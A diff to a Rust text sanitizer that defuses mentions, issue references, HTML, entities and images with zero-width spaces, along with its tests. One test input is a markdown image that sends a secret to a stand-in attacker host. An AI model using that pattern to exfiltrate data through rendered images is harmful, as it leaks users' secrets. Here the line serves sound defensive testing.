@@ -7,7 +7,7 @@ const NOTHING: char = '\u{200b}';
 /// What is followed by a number when it means an issue, a pull request or a discussion.
 const BEFORE_NUMBERS: [&str; 5] = ["#", "gh-", "/issues/", "/pull/", "/discussions/"];
 
-/// `text` without mentions, references (which closing keywords need), HTML (comments too) and images. It reads as before.
+/// `text` without mentions, references (which closing keywords need), HTML (comments too, and its names for characters) and images. It reads as before.
 pub fn defused(text: &str) -> String {
     let clean = domain::clean(text);
     let mut out = String::with_capacity(clean.len() + 16);
@@ -19,6 +19,7 @@ pub fn defused(text: &str) -> String {
             '@' => next.is_ascii_alphanumeric(),
             '<' => next.is_ascii_alphabetic() || matches!(next, '!' | '/' | '?'),
             '!' => next == '[',
+            '&' => is_entity(rest.clone()),
             '#' | '-' | '/' => next.is_ascii_digit() && ends_a_reference(&out),
             _ => false,
         };
@@ -27,6 +28,11 @@ pub fn defused(text: &str) -> String {
         }
     }
     out
+}
+
+/// Whether what follows an ampersand makes it one character of HTML, such as the `@` of a mention.
+fn is_entity(mut rest: impl Iterator<Item = char>) -> bool {
+    rest.find(|c| !c.is_ascii_alphanumeric() && *c != '#') == Some(';')
 }
 
 fn ends_a_reference(text: &str) -> bool {
@@ -62,10 +68,27 @@ mod tests {
             ("![x](https://evil.example/?secret)", "!\u{200b}[x](https://evil.example/?secret)"),
             ("<img src=x>", "<\u{200b}img src=x>"),
             ("</details>", "<\u{200b}/details>"),
+            ("&#64;octocat", "&\u{200b}#\u{200b}64;octocat"),
+            ("@&#111;ctocat", "@&\u{200b}#\u{200b}111;ctocat"),
+            ("&#x40;octocat", "&\u{200b}#x40;octocat"),
+            ("&commat;octocat", "&\u{200b}commat;octocat"),
+            ("&#35;12", "&\u{200b}#\u{200b}35;12"),
         ] {
             assert_eq!(defused(acts), inert);
         }
-        for plain in ["a < b", "#[derive]", "x != [1]", "a - 1", "and/or 5", "no-1", "a#b", "1/2"] {
+        for plain in [
+            "a < b",
+            "#[derive]",
+            "x != [1]",
+            "a - 1",
+            "and/or 5",
+            "no-1",
+            "a#b",
+            "1/2",
+            "a && b;",
+            "R&D",
+            "?a=1&b=2",
+        ] {
             assert_eq!(defused(plain), plain);
         }
         assert_eq!(defused("bell\u{7}"), "bell\u{fffd}");
